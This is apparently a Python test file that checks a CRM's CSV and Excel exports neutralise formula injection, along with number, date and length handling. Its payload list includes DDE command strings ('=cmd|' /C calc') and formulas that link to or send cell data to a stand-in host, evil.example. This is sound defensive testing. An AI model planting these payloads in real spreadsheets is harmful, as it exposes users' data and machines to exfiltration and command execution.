"""Exports in which nothing is a formula, whoever opens them. Source: trust.md 4.8 F5, libraries.md fact 9."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from spm.crm.exports import ExportError, stream_csv, write_csv, write_xlsx
from spm.crm.feeds.inert import inert, restored
from spm.crm.feeds.reading import open_table
from spm.crm.feeds.values import ValueType, parse

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\u200b=1+1",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]
HIDDEN = ["a;=1+1", "a\t=1+1", "a\n=1+1", 'x";=cmd|1', "a; @SUM(1)"]
STARTS = tuple("=+-@\t\r\n\0＝＋－＠")


@pytest.mark.parametrize("payload", [*PAYLOADS, *HIDDEN])
def test_no_text_of_a_csv_export_starts_a_formula(payload: str) -> None:
    contents = write_csv([[payload, -5]], [payload, "amount"])
    for delimiter in ",;\t":
        for record in csv.reader(io.StringIO(contents.decode("utf-8-sig"), newline=""), delimiter=delimiter):
            for cell in record:
                assert not cell.strip(" \u200b").startswith(STARTS) or cell == "-5"
    [header, row] = csv.reader(io.StringIO(contents.decode("utf-8-sig"), newline=""))
    assert restored(header[0]) == restored(row[0]) == payload


@pytest.mark.parametrize("payload", [*PAYLOADS, *HIDDEN])
def test_no_text_of_a_workbook_is_a_formula_or_a_link(payload: str) -> None:
    contents = write_xlsx([[payload, "http://evil.example", -5]], [payload, "link", "amount"])
    sheet = openpyxl.load_workbook(io.BytesIO(contents)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n") and cell.hyperlink is None
            assert cell.data_type == "n" or not str(cell.value).startswith(STARTS)
    assert sheet["C2"].value == -5
    with zipfile.ZipFile(io.BytesIO(contents)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    row = [
        "O'Neil & Söhne",
        "a-b",
        7,
        -5,
        Decimal("1234.50"),
        True,
        date(2017, 3, 1),
        datetime(2017, 3, 1, 10, 30, tzinfo=UTC),
        None,
    ]
    line = write_csv([row], [str(n) for n in range(9)]).decode("utf-8-sig").splitlines()[1]
    assert line == "O'Neil & Söhne,a-b,7,-5,1234.50,true,2017-03-01,2017-03-01T10:30:00+00:00,"
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([row], [str(n) for n in range(9)]))).active
    expected = ["O'Neil & Söhne", "a-b", 7, -5, 1234.5, True, datetime(2017, 3, 1), datetime(2017, 3, 1, 10, 30), None]  # noqa: DTZ001
    assert [cell.value for cell in sheet[2]] == expected


@given(st.lists(st.decimals(min_value=-(10**9), max_value=10**9, places=6), min_size=1, max_size=20))
def test_a_sheet_holds_the_digits_of_a_number(numbers: list[Decimal]) -> None:
    """0.0006 is not 0.0005999999999999999, nor 0.0399999 any other number: what is read back is what was entered."""
    entered = [*numbers, Decimal("0.0006"), Decimal("0.0399999"), Decimal("9.95"), Decimal("1234.50"), Decimal(100)]
    with zipfile.ZipFile(io.BytesIO(write_xlsx([[one] for one in entered], ["rate"]))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    written = re.findall(r'<c r="A\d+"[^>]*><v>([^<]*)</v></c>', sheet)
    assert [Decimal(text) for text in written] == entered
    assert written[-2:] == ["1234.5", "100"]


def test_the_same_table_is_the_same_file() -> None:
    rows = [["a", Decimal("1.5")], ["b", None]]
    assert write_csv(rows, ["n", "x"]) == write_csv(rows, ["n", "x"]) == b"".join(stream_csv(iter(rows), ["n", "x"]))
    assert write_xlsx(rows, ["n", "x"]) == write_xlsx(iter(rows), ["n", "x"])


def test_what_would_be_lost_is_refused_or_kept_as_text() -> None:
    with pytest.raises(ExportError, match="Row 2, column “note”: 40,000 characters do not fit"):
        write_xlsx([["x" * 40_000]], ["note"])
    with pytest.raises(ExportError, match="float"):
        write_csv([[0.1]], ["x"])  # type: ignore[list-item]
    with pytest.raises(ExportError, match="NaN"):
        write_xlsx([[Decimal("NaN")]], ["x"])
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx([[12345678901234567890]], ["key"]))).active
    assert sheet["A2"].value == "12345678901234567890"


def test_a_table_longer_than_a_sheet_goes_on_to_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("spm.crm.exports.ROWS_PER_SHEET", 2)
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([[n] for n in range(5)], ["n"], sheet="Deals [all]/*?")))
    assert book.sheetnames == ["Deals  all", "Deals  all 2", "Deals  all 3"]
    assert [[cell.value for cell in sheet["A"]] for sheet in book] == [["n", 0, 1], ["n", 2, 3], ["n", 4]]


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if "\0" not in each and "\u200b" not in each])
def test_an_exported_table_is_read_back_as_it_was(payload: str) -> None:
    for contents, name in (
        (write_csv([[payload, "x"]], ["a", "b"]), "a.csv"),
        (write_xlsx([[payload, "x"]], ["a", "b"]), "a.xlsx"),
    ):
        [sheet] = open_table(contents, name)
        [row] = sheet.rows
        assert parse(row.values[0], ValueType.TEXT) == payload.strip()


@given(st.text())
def test_inert_text_is_restored(text: str) -> None:
    assert inert(text) == text or restored(inert(text)) == text
